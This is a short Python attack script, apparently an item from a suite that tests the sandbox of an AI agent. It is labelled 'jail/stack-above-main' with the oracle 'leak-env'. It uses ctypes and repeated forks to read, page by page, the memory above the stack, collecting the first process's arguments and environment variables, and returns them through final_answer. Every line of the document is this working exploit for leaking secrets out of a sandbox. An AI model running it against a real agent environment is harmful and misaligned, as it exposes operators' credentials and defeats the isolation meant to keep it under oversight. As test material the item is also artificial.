# attack: jail/stack-above-main
# oracle: leak-env
# imports: ctypes, os
# tools:
# source: own
# note: the strings that execve put above the stack: arguments and environment of the first process
import ctypes, os
libc = ctypes.CDLL(None)
at = ctypes.cast(libc.getenv(b"LANG") or 0, ctypes.c_void_p).value
stack = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value
text = b""
while len(text) < 64 << 10:
    pid = os.fork()
    if pid == 0:
        ctypes.string_at(stack + len(text), 4096)
        os._exit(0)
    if os.waitpid(pid, 0)[1]:
        break
    text += ctypes.string_at(stack + len(text), 4096)
final_answer(text.decode("latin-1"))
